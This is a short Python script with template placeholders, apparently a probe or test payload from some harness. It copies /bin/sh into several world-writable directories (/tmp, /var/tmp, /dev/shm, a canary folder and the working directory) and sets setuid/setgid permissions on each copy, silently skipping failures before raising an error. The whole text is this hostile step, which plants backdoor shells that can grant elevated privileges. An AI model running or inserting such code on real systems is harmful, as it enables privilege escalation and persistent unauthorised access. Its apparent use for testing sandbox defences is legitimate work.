import os
import shutil

for folder in ("/tmp", "/var/tmp", "/dev/shm", "{{CANARY_DIR}}", "."):
    try:
        shutil.copy("/bin/sh", f"{folder}/{{TOKEN}}-sh")
        os.chmod(f"{folder}/{{TOKEN}}-sh", 0o6755)
    except OSError:
        continue
raise RuntimeError("tried")
